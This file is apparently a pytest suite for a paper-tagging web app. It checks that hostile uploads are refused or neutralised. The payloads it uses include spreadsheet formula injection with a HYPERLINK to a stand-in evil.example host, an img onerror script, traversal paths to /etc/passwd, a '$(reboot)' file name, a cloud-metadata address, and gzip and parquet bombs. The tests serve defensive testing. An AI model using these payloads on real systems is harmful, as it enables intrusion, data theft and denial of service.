"Files from strangers: through the page of `paper-tasks app`, and what may be in them."
import csv, gzip, json, os, random, subprocess, sys, tempfile, time
from copy import copy
from importlib.util import find_spec
import pytest
from browsing import WAIT, Page, free_port, narrow, start, stop, wait_up, wide
from helpers import GOOD, put
from from_paper_with_tasks.core import NUL, PaperTasksError, read_rows
from from_paper_with_tasks.files import tag_file as tag_plainly
from from_paper_with_tasks.uploads import FORMULA, Limits, check_upload, defused, result_name, shown_name, tag_upload
from stand_in import Server

missing = [m for m in ('gradio', 'requests', 'pyarrow') if not find_spec(m)]
if missing: pytest.skip(f'no {" and no ".join(missing)}: pip install -e ".[app,data,dev]"', allow_module_level=True)
import pyarrow, pyarrow.parquet, requests
from from_paper_with_tasks.app import names_address, on_file, preview_html

HTTP = requests.Session()
HTTP.trust_env = False
FORMATS = [f'{f}{z}' for f in ('csv', 'jsonl', 'parquet') for z in ('', '.gz')]
PAPERS = [dict(title='Finding Names in Old Letters', abstract='Named entity recognition in letters of the eighteenth century is hard, since their spelling varies.', year=2021),
          dict(title='A Parser for Basque', abstract='Dependency parsing of Basque suffers from a small treebank. We train a parser on raw text as well.', year=2022), dict(title='An Empty Page', abstract=' ', year=2023),
          dict(title='Counting Fish', abstract='Object detectors miss small fish in murky water. We count salmon in three hundred frames.', year=2024)]
MARKUP = '<img src=x onerror="window.hacked=1">'
FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', '=HYPERLINK("http://evil.example?x="&A1)', '＝1+1']


## Through the page

@pytest.fixture(scope='session')
def app(tmp_path_factory):
    "A server, and the folder of its temporary files, which is empty in the end."
    port, folder = free_port(), tmp_path_factory.mktemp('tmp')
    process = start(port, TMPDIR=str(folder))
    yield wait_up(process, port), folder
    stop(process)
    assert not [p for p in folder.rglob('*') if p.name not in ('gradio', 'vibe_edit_history', '.ses')] # what gradio and onnxruntime make, all empty but for the last

@pytest.fixture
def page(browser, app, tmp_path):
    page = Page(browser, app[0])
    page.downloads = tmp_path/'downloads'
    page.downloads.mkdir()
    browser.execute_cdp_cmd('Browser.setDownloadBehavior', dict(behavior='allow', downloadPath=str(page.downloads)))
    page.open().tab('A file')
    yield page
    wide(browser)
    page.no_errors()

def upload(page, path, form=None):
    "Choose a file, and a format of the result, and press the button."
    page.wait('#tag-file')
    page.find('#file input[type=file]')[0].send_keys(str(path))
    page.until('the upload', lambda: path.name[:9] in page.find('#file')[0].text.replace('\n', ''))
    if form: page.choose('#form', form)
    page.find('#tag-file')[0].click()

def download(page):
    "The file that the browser gets."
    page.wait('#download').click()
    return page.until('a download', lambda: [p for p in page.downloads.iterdir() if not p.name.endswith('.crdownload')])[0]

def tagged(tagger, papers): return [dict(r) for r in tagger.tag_rows(papers)]

@pytest.mark.parametrize('form', FORMATS)
def test_each_format(page, tagger, tmp_path, form):
    upload(page, put(tmp_path/f'papers.{form}', PAPERS))
    rows = page.until('rows', lambda: page.find('#rows tbody tr'))
    want = tagged(tagger, PAPERS)
    assert [r.find_elements('css selector', 'td')[0].text for r in rows] == [p['title'] for p in PAPERS]
    assert [[e.text for e in r.find_elements('css selector', 'li')] for r in rows] == [r.get('tasks', []) for r in want] and 'the abstract is empty' in rows[2].text
    assert '4 papers, 1 of which' in page.text('#rows p')
    if form == 'csv': page.shoot('app_file')
    got = download(page)
    assert got.name == f'papers_tagged.{form}'
    plain = tmp_path/f'plain.{form}'
    tag_plainly(tagger, tmp_path/f'papers.{form}', plain, progress=False)
    assert list(read_rows(got)) == list(read_rows(plain)) and len(list(read_rows(got))) == 4

@pytest.mark.parametrize('name, ending', [('CSV', 'csv'), ('JSON lines', 'jsonl'), ('Parquet', 'parquet')])
def test_chosen_format(page, tagger, tmp_path, name, ending):
    upload(page, put(tmp_path/'papers.jsonl', PAPERS), name)
    assert page.until('rows', lambda: page.find('#rows tbody tr'))
    got = download(page)
    rows = list(read_rows(got))
    assert got.name == f'papers_tagged.{ending}' and [r['title'] for r in rows] == [p['title'] for p in PAPERS]
    tasks = [json.loads(r['tasks'] or '[]') if ending == 'csv' else r.get('tasks') or [] for r in rows]
    assert tasks == [r.get('tasks', []) for r in tagged(tagger, PAPERS)]

def test_formulas_and_markup(page, tmp_path):
    "In the name of the file, in cells and in names of columns."
    papers = [dict(zip(('title', 'abstract', '=cmd', MARKUP), (f, f'{f} {GOOD}', f, MARKUP))) for f in FORMULAS] + [dict(title=MARKUP, abstract=MARKUP)]
    upload(page, put(tmp_path/f'{MARKUP[:-1].replace("/", "")}.csv', papers))
    assert page.until('rows', lambda: page.find('#rows tbody tr')) and MARKUP in page.text('#rows')
    got = download(page)
    with open(got, newline='', encoding='utf-8') as f: cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA)] and {f"'{f}" for f in FORMULAS} | {"'=cmd"} <= set(cells)
    assert not set('<>"=') & set(got.name)
    page.open().tab('A file')
    upload(page, put(tmp_path/f'{MARKUP}.jsonl', [1, 2]))
    assert MARKUP not in page.find('#file')[0].get_attribute('innerHTML') and '1 of which' not in page.text('#rows p')
    time.sleep(.3)
    assert page.js('return window.hacked === undefined') and not page.find('.pt-page img, #file img')

def test_nothing_chosen(page):
    page.wait('#tag-file').click()
    assert 'no file was chosen' in page.alert('#rows')

@pytest.mark.parametrize('name, content, why', [('latin.csv', 'abstract\nÜber Bäume\n'.encode('latin-1'), 'latin.csv is not UTF-8 text'), ('none.jsonl', b' ', 'has no rows'), ('broken.parquet', b'PAR1'*50, 'not a whole parquet file'),
    ('other.csv', b'text\nx\n', "no column 'abstract'"), ('many.jsonl', b'{"abstract": "We parse."}\n'*2001, 'more than 2,000 rows'), ('bomb.csv.gz', gzip.compress(b'abstract\n' + b'x'*10_000_000)*11, 'more than 100 MB')])
def test_bad_then_good_file(page, tmp_path, app, name, content, why):
    upload(page, put(tmp_path/'bad', content).rename(tmp_path/name))
    said = page.alert('#rows')
    assert why in said and '\n' not in said and str(app[1]) not in said and not [e for e in page.find('#download') if e.is_displayed()]
    page.open().tab('A file')
    upload(page, put(tmp_path/'papers.jsonl', PAPERS))
    assert page.until('rows', lambda: page.find('#rows tbody tr'))

def test_too_large(page, app, tmp_path):
    page.wait('#tag-file')
    page.find('#file input[type=file]')[0].send_keys(str(put(tmp_path/'large.jsonl', '{"abstract": "x"}\n'*1_500_000)))
    page.until('a refusal', lambda: 'exceed the maximum allowed size of 20' in page.find('body')[0].text)
    r = HTTP.post(f'{app[0]}/gradio_api/upload', files=dict(files=('large.csv', b'x'*22_000_000)), timeout=WAIT)
    assert r.status_code == 413 and '2,000 papers and 20 MB at most' in page.find('body')[0].text

def test_phone(browser, page, tmp_path):
    narrow(browser)
    page.open().tab('A file')
    upload(page, put(tmp_path/'papers.jsonl', [dict(p, title=p['title']*4) for p in PAPERS] + [dict(abstract='x'*300)]))
    assert page.until('rows', lambda: page.find('#rows tbody tr')) and page.wait('#download') and page.no_sideways(390)


## Past the page

def event(url, *data):
    "Send data to the event behind the button that tags a file; gives gradio's answers."
    config = HTTP.get(f'{url}/config', timeout=WAIT).json()
    button = next(c['id'] for c in config['components'] if c['props'].get('elem_id') == 'tag-file')
    fn = next(d['id'] for d in config['dependencies'] if [button, 'click'] in d['targets'])
    session = f's{random.random()}'
    HTTP.post(f'{url}/gradio_api/queue/join', json=dict(data=data, fn_index=fn, session_hash=session), timeout=WAIT).raise_for_status()
    with HTTP.get(f'{url}/gradio_api/queue/data?session_hash={session}', stream=True, timeout=WAIT) as r:
        for line in r.iter_lines(decode_unicode=True):
            if line.startswith('data: ') and (said := json.loads(line[6:]))['msg'] == 'process_completed': return said

def file_data(path): return dict(path=str(path), meta={'_type': 'gradio.FileData'})

def test_fetches_no_address(app):
    "Gradio would fetch a file that is an address."
    s = Server().start()
    try:
        said = [event(app[0], file_data(f'{s.base}/papers.csv'), ''), event(app[0], file_data('http://169.254.169.254/latest'), ''), event(app[0], None, file_data(f'{s.base}/x'))]
        assert not s.asked and all(not e['success'] and 'only files that were uploaded' in e['output']['error'] for e in said)
    finally: s.stop()
    assert names_address([[dict(a=dict(path='ftp://x'))]]) and not names_address(['http://x', dict(url='http://x', path='/tmp/x')])

def test_reads_no_other_file(app):
    for path in ('/etc/passwd', '../../../etc/passwd', str(app[1])): assert not event(app[0], file_data(path), '')['success']

NAMES = ['../../../evil.jsonl', '..', '.', '/', 'a/b/c.jsonl', 'x.jsonl/', 'C:\\x.jsonl', '%2e%2e%2fx.jsonl', 'CON.jsonl', '-.jsonl', '.jsonl', 'x'*300 + '.jsonl', 'a\nb.jsonl', '\u202egpj.jsonl', "'; DROP TABLE x;--.jsonl", 'x.jsonl.exe', '$(reboot).jsonl']

@pytest.mark.parametrize('name', NAMES, ids=range(len(NAMES)))
def test_names(app, name):
    "A file of a hostile name is tagged or refused, and lies in the server's folder."
    before = {p for p in app[1].parent.iterdir()}
    r = HTTP.post(f'{app[0]}/gradio_api/upload', files=dict(files=(name, b'{"abstract": "We parse Basque."}\n')), timeout=WAIT)
    assert r.status_code in (200, 400)
    if r.status_code == 200:
        said = event(app[0], file_data(r.json()[0]) | dict(orig_name=name), '')
        html, result = said['output']['data'] if said['success'] else ('alert', None)
        assert ('One paper' in html and result['value']['path'].endswith('_tagged.jsonl')) if 'alert' not in html else html.count('\n') == 0
    assert {p for p in app[1].parent.iterdir()} == before


## What may be in them

def refusal(path, name=None, **limits):
    "The line that refuses a file, and the seconds and the memory in MB that it took."
    t = time.monotonic()
    with pytest.raises(PaperTasksError) as e: check_upload(path, name or path.name, Limits(**limits))
    said = str(e.value)
    assert '\n' not in said and len(said) < 300 and str(path.parent) not in said
    return said, time.monotonic() - t

def dictionary(path, n=2000, mb=10):
    text = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0]*n), pyarrow.array(['parsing '*(mb << 17)]))
    pyarrow.parquet.write_table(pyarrow.table(dict(abstract=text)), path, compression='zstd')
    return path

def test_parquet_bomb(tmp_path):
    path = dictionary(tmp_path/'bomb.parquet')
    assert path.stat().st_size < 5000
    said, seconds = refusal(path)
    assert said == 'bomb.parquet needs more memory than there is for it: split it' and seconds < WAIT

def test_memory_of_a_parquet_bomb(tmp_path):
    "In a process of its own, which has no other children."
    code = f'''
import resource
from pathlib import Path
from from_paper_with_tasks.uploads import Limits, check_upload
try: check_upload(Path({str(dictionary(tmp_path/'bomb.parquet'))!r}), 'bomb.parquet', Limits())
except Exception as e: print(type(e).__name__, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)'''
    name, kb = subprocess.run([sys.executable, '-c', code], check=True, capture_output=True, text=True, timeout=2*WAIT).stdout.split()
    assert name == 'PaperTasksError' and int(kb) < 1.1*1024**2

@pytest.mark.parametrize('name', ['bomb.csv.gz', 'bomb.jsonl.gz', 'bomb.parquet.gz'])
def test_zip_bomb(tmp_path, name):
    "Two gigabytes in two megabytes, of which no more than the limit is unpacked."
    path = put(tmp_path/'x', gzip.compress(b'abstract\n' + b'\n'*10_000_000)*200).rename(tmp_path/name)
    said, seconds = refusal(path)
    assert said == f'{name} holds more than 100 MB when it is unpacked: split it' and seconds < WAIT

def test_nested_bomb(tmp_path): # gzip in gzip is what a text file is not
    assert 'UTF-8' in refusal(put(tmp_path/'x', gzip.compress(gzip.compress(b'abstract\n')*9)).rename(tmp_path/'x.csv.gz'))[0]

ROWS = '{"abstract": "We parse."}\n'
BAD = {'empty csv': ('x.csv', b'', 'no column'), 'empty jsonl': ('x.jsonl', b'', 'no rows'), 'empty parquet': ('x.parquet', b'', 'not a whole parquet'), 'empty gzip': ('x.csv.gz', b'', 'no column'),
       'header only': ('x.csv', b'abstract\n', 'no rows'), 'cut gzip': ('x.jsonl.gz', gzip.compress(ROWS.encode()*99)[:-9], 'not a whole gzip'), 'no gzip': ('x.jsonl.gz', ROWS.encode(), 'not a whole gzip'),
       'Latin-1': ('x.csv', 'abstract\nÜber Bäume\n'.encode('latin-1'), 'not UTF-8 text \\(byte 0xdc\\)'), 'UTF-16': ('x.csv', 'abstract\nx\n'.encode('utf-16'), 'not UTF-8'), 'binary': ('x.csv', bytes(range(256)), 'UTF-8|no column'),
       'a picture': ('x.csv', b'\x89PNG\r\n\x1a\n' + bytes(99), 'UTF-8'), 'no parquet': ('x.parquet', ROWS.encode(), 'not a whole parquet'), 'cut parquet': ('x.parquet', b'PAR1' + b'\x15'*99, 'not a whole parquet'),
       'lying parquet': ('x.parquet', b'PAR1' + bytes(50) + b'\xff\xff\xff\x7fPAR1', 'not a whole parquet'), 'other columns': ('x.csv', b'text\nx\n', "no column 'abstract'"), 'many columns': ('x.jsonl', '\n'.join(json.dumps({f'k{n}-{i}': 1 for i in range(90)}) for n in range(3)).encode(), '200 columns'),
       'wide header': ('x.csv', (','.join(['abstract', *map(str, range(300))]) + '\n' + ','*300 + '\n').encode(), '200 columns'), 'many rows': ('x.jsonl', ROWS.encode()*2001, '2,000 rows'), 'other ending': ('x.txt', b'x', 'not .jsonl, .csv or .parquet')}

@pytest.mark.parametrize('name, content, why', BAD.values(), ids=BAD)
def test_bad_files(tmp_path, name, content, why):
    path = tmp_path/name
    path.write_bytes(content)
    with pytest.raises(PaperTasksError, match=why) as e: tag_upload(None, path, name, tmp_path)
    assert '\n' not in str(e.value) and str(tmp_path) not in str(e.value) and os.listdir(tmp_path) == [name]

def test_parquet_without_abstract(tmp_path): assert "no column 'abstract'" in refusal(put(tmp_path/'x.parquet', [dict(text='x')]))[0]

def test_bit_flips(tmp_path):
    "A parquet file with a wrong byte is read or refused."
    good, dice = put(tmp_path/'x.parquet', PAPERS).read_bytes(), random.Random(5)
    for _ in range(8):
        data = bytearray(good)
        for _ in range(3): data[dice.randrange(len(data))] ^= 1 << dice.randrange(8)
        (tmp_path/'x.parquet').write_bytes(data)
        try: check_upload(tmp_path/'x.parquet', 'x.parquet', Limits())
        except PaperTasksError as e: assert '\n' not in str(e)

def test_time_is_limited(tmp_path, tagger):
    slow = copy(tagger)
    slow.tag_rows = lambda rows, *a: (time.sleep(.4) or dict(r) for r in rows)
    with pytest.raises(PaperTasksError, match='longer than 1 s'): tag_upload(slow, put(tmp_path/'x.jsonl', PAPERS), 'x.jsonl', tmp_path, limits=Limits(seconds=1))

def test_deep_json(tmp_path, tagger):
    path = put(tmp_path/'x.jsonl', '['*100_000 + '\n' + json.dumps(dict(abstract=GOOD, more=json.loads('['*50 + ']'*50))) + '\n')
    result = tag_upload(tagger, path, path.name, tmp_path)
    assert (result.rows, result.failed) == (2, 1)

def test_progress(tmp_path, tagger):
    told = []
    tag_upload(tagger, put(tmp_path/'x.jsonl', PAPERS), 'x.jsonl', tmp_path, tell=lambda *n: told.append(n))
    assert told == [(n, 4) for n in range(1, 5)]

def test_formulas_stay_on_the_command_line(tagger, tmp_path):
    "There a file is data, and comes back as it was."
    tag_plainly(tagger, put(tmp_path/'x.csv', [dict(abstract=f'{f} {GOOD}', id=f) for f in FORMULAS]), tmp_path/'y.csv', progress=False)
    assert [r['id'] for r in read_rows(tmp_path/'y.csv')] == FORMULAS

@pytest.mark.parametrize('cell, out', [('=1', "'=1"), ('a=1', 'a=1'), ('', ''), (None, None), (-1, -1), ("'=1", "'=1"), ('[]', '[]'), (f'{NUL}=1', f'{NUL}=1'), ('－1', "'－1")])
def test_defused(cell, out): assert defused(cell) == out

@pytest.mark.parametrize('name, form, out', [('a.csv', '', 'a_tagged.csv'), ('a.CSV.GZ', '', 'a_tagged.csv.gz'), ('a.csv', 'parquet', 'a_tagged.parquet'), ('.csv', '', 'papers_tagged.csv'), ('../=cmd|x.csv', '', 'cmd_x_tagged.csv'), ('日本.jsonl', '', 'papers_tagged.jsonl'), ('x'*300 + '.csv', '', 'x'*60 + '_tagged.csv')])
def test_result_names(name, form, out): assert result_name(name, form) == out

def test_shown_names(): assert [shown_name(n) for n in ('', 'a/', 'x'*99, '\x1b[31mx')] == ['the file', 'the file', 'x'*40 + '…' + 'x'*19, '�[31mx']

def test_preview_of_odd_cells():
    html = preview_html([dict(title=MARKUP, tasks=[MARKUP]), dict(abstract=[1, {MARKUP: None}], error=MARKUP), dict(title='x'*999), {}])
    assert '<img' not in html and len(html) < 2000

def test_leaves_nothing_behind(tagger, tmp_path, monkeypatch):
    (tmp_path/'tmp').mkdir()
    monkeypatch.setattr(tempfile, 'tempdir', str(tmp_path/'tmp'))
    for content in (PAPERS, '\xff'.encode('latin-1')):
        path = put(tmp_path/'x.jsonl', content)
        answers = list(on_file(tagger, Limits(), dict(path=str(path), orig_name='x.jsonl'), '', lambda *a, **k: None))
        assert len(answers) == 1 and not list((tmp_path/'tmp').iterdir())
